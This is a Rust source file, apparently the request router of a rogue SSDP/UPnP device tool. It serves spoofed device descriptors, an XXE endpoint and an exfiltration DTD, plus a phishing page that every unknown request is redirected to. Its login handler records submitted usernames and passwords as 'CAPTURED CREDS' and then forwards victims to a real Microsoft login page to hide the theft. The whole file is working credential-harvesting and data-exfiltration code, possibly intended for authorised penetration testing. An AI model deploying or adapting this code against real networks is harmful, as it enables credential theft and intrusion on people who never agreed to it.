use std::sync::Arc;
use std::time::Duration;

use log::error;
use warp::http::{Method, StatusCode};

use super::assets::{self, ASSET_PREFIX};
use super::auth::{basic_auth_gate, AuthDecision};
use super::types::{InboundRequest, Outcome};
use crate::error_handling::types::TemplateError;
use crate::session_management::SessionIdentity;
use crate::storage::storage_trait::{EventKind, EventSink};
use crate::templating::TemplateManager;

pub const DEVICE_DESC_PATH: &str = "/ssdp/device-desc.xml";
pub const SERVICE_DESC_PATH: &str = "/ssdp/service-desc.xml";
pub const XXE_PATH: &str = "/ssdp/xxe.html";
pub const EXFIL_DTD_PATH: &str = "/ssdp/data.dtd";
pub const FAVICON_PATH: &str = "/favicon.ico";
pub const LOGIN_PATH: &str = "/ssdp/do_login.html";
pub const PHISH_PATH: &str = "/present.html";

pub const DEFAULT_LOGIN_REDIRECT: &str = "https://login.microsoftonline.com/";
pub const LOGIN_DELAY: Duration = Duration::from_millis(500);

const EXFIL_MARKER: &str = "exfiltrated";

#[derive(Debug, Default, PartialEq, Eq)]
pub struct LoginForm {
    pub username: String,
    pub password: String,
}

/// Parses an `application/x-www-form-urlencoded` body. The first value of each
/// field wins; absent fields are empty.
pub fn parse_login_form(body: &[u8]) -> Result<LoginForm, String> {
    let text = std::str::from_utf8(body).map_err(|e| e.to_string())?;
    if has_bad_escape(text) {
        return Err("invalid percent escape".to_string());
    }
    let pairs: Vec<(String, String)> =
        serde_urlencoded::from_str(text).map_err(|e| e.to_string())?;

    let first = |key: &str| {
        pairs
            .iter()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v.clone())
            .unwrap_or_default()
    };
    Ok(LoginForm {
        username: first("username"),
        password: first("password"),
    })
}

fn has_bad_escape(text: &str) -> bool {
    let bytes = text.as_bytes();
    let hex_at = |i: usize| bytes.get(i).is_some_and(|b| b.is_ascii_hexdigit());
    bytes
        .iter()
        .enumerate()
        .any(|(i, &b)| b == b'%' && !(hex_at(i + 1) && hex_at(i + 2)))
}

/// Maps every inbound web request onto one of the fixed endpoints.
pub struct Router {
    identity: Arc<SessionIdentity>,
    templates: TemplateManager,
    sink: Arc<dyn EventSink>,
    login_delay: Duration,
}

impl Router {
    pub fn new(
        identity: Arc<SessionIdentity>,
        templates: TemplateManager,
        sink: Arc<dyn EventSink>,
    ) -> Self {
        Self {
            identity,
            templates,
            sink,
            login_delay: LOGIN_DELAY,
        }
    }

    pub async fn handle(&self, req: InboundRequest) -> Outcome {
        let ip = req.client_ip();

        if req.path.starts_with(ASSET_PREFIX) {
            return assets::serve_asset(&self.identity.assets_dir, &req.path, self.sink.as_ref())
                .await;
        }

        match req.path.as_str() {
            DEVICE_DESC_PATH => {
                self.log_request(EventKind::XmlRequest, &req, &ip);
                self.xml_or_500(self.templates.device_xml(), "device descriptor")
            }
            SERVICE_DESC_PATH => {
                self.log_request(EventKind::XmlRequest, &req, &ip);
                self.xml_or_500(self.templates.service_xml(), "service descriptor")
            }
            XXE_PATH => {
                self.log_request(EventKind::Xxe, &req, &ip);
                Outcome::xml(".")
            }
            EXFIL_DTD_PATH => {
                self.log_request(EventKind::Xxe, &req, &ip);
                self.xml_or_500(self.templates.exfil_dtd(), "exfiltration DTD")
            }
            FAVICON_PATH => Outcome::text(StatusCode::NOT_FOUND, "Not found."),
            LOGIN_PATH => self.login(&req, &ip).await,
            PHISH_PATH => self.phish(&req, &ip),
            _ => self.fallback(&req, &ip),
        }
    }

    fn log_request(&self, kind: EventKind, req: &InboundRequest, ip: &str) {
        self.sink.event(
            kind,
            &format!(
                "Host: {}, User-Agent: {}, Request: {} {}",
                ip,
                req.user_agent(),
                req.method,
                req.path
            ),
        );
    }

    fn xml_or_500(&self, rendered: Result<String, TemplateError>, what: &str) -> Outcome {
        match rendered {
            Ok(body) => Outcome::xml(body),
            Err(e) => {
                error!("Failed to render {}: {}", what, e);
                Outcome::text(StatusCode::INTERNAL_SERVER_ERROR, "Internal Server Error")
            }
        }
    }

    fn gate(&self, req: &InboundRequest, ip: &str) -> Option<Outcome> {
        if !self.identity.auth_required {
            return None;
        }
        match basic_auth_gate(req, &self.identity.realm, ip, self.sink.as_ref()) {
            AuthDecision::Allowed => None,
            AuthDecision::Denied(out) => Some(out),
        }
    }

    async fn login(&self, req: &InboundRequest, ip: &str) -> Outcome {
        if req.method != Method::POST {
            return Outcome::text(StatusCode::METHOD_NOT_ALLOWED, "Method Not Allowed");
        }
        let form = match parse_login_form(&req.body) {
            Ok(f) => f,
            Err(e) => {
                error!("Malformed login form from {}: {}", ip, e);
                return Outcome::text(StatusCode::BAD_REQUEST, "Bad Request");
            }
        };
        self.sink.event(
            EventKind::CredsGiven,
            &format!(
                "HOST: {}, CAPTURED CREDS: username={}&password={}",
                ip, form.username, form.password
            ),
        );

        tokio::time::sleep(self.login_delay).await;

        let target = if self.identity.redirect_url.is_empty() {
            DEFAULT_LOGIN_REDIRECT
        } else {
            self.identity.redirect_url.as_str()
        };
        Outcome::redirect(StatusCode::FOUND, target)
    }

    fn phish(&self, req: &InboundRequest, ip: &str) -> Outcome {
        self.log_request(EventKind::PhishHooked, req, ip);
        if let Some(denied) = self.gate(req, ip) {
            return denied;
        }
        match self.templates.phish_html() {
            Ok(page) => Outcome::html(StatusCode::OK, page),
            Err(e) => {
                error!("Failed to render delivery page: {}", e);
                Outcome::text(StatusCode::INTERNAL_SERVER_ERROR, "Internal Server Error")
            }
        }
    }

    fn fallback(&self, req: &InboundRequest, ip: &str) -> Outcome {
        if req.path.contains(EXFIL_MARKER) {
            self.sink.event(
                EventKind::Exfiltration,
                &format!("Host: {}, User-Agent: {}", ip, req.user_agent()),
            );
            self.sink
                .event(EventKind::Exfiltration, &format!("{} {}", req.method, req.path));
        } else {
            self.sink.event(
                EventKind::Detection,
                &format!(
                    "Odd HTTP request from Host: {}, User-Agent: {}",
                    ip,
                    req.user_agent()
                ),
            );
            self.sink.event(
                EventKind::Detection,
                &format!("{} {} ... sending to phishing page.", req.method, req.path),
            );
        }
        if let Some(denied) = self.gate(req, ip) {
            return denied;
        }
        Outcome::redirect(StatusCode::MOVED_PERMANENTLY, PHISH_PATH)
    }
}
